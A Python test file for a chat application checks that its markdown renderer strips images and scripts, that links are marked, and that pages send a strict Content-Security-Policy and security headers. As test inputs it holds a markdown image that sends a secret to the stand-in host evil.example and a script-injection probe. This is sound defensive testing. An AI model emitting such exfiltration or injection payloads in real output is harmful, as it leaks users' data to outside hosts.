"""Content safety of the pages: a Content-Security-Policy, no outside images in replies,
safe links, and the usual headers (mail and events are shown now: they must not leak)."""

from __future__ import annotations

import pytest

from chat.render import render_markdown
from tests.chat_support import signed_in_client

pytestmark = pytest.mark.django_db(transaction=True)


def test_markdown_keeps_no_image_and_marks_links():
    html = render_markdown("![a](https://evil.example/p.png?d=SECRET) [docs](https://example.com)")
    assert "<img" not in html and "evil.example" not in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert "<script" not in render_markdown("<script>alert(1)</script>")


async def test_every_page_has_the_policy_and_the_headers():
    client = await signed_in_client("ada@example.com")
    for url in ("/", "/chat/t-safe/", "/login/"):
        response = await client.get(url)
        assert response.status_code == 200, url
        policy = response["Content-Security-Policy"]
        for directive in ("default-src 'self'", "script-src 'self'", "img-src 'self' data:",
                          "connect-src 'self'", "frame-ancestors 'none'", "object-src 'none'"):  # fmt: skip
            assert directive in policy, (url, directive)
        assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Referrer-Policy"] == "same-origin"
        assert response["X-Frame-Options"] == "DENY"
        assert "<script>" not in response.content.decode()  # no inline script anywhere
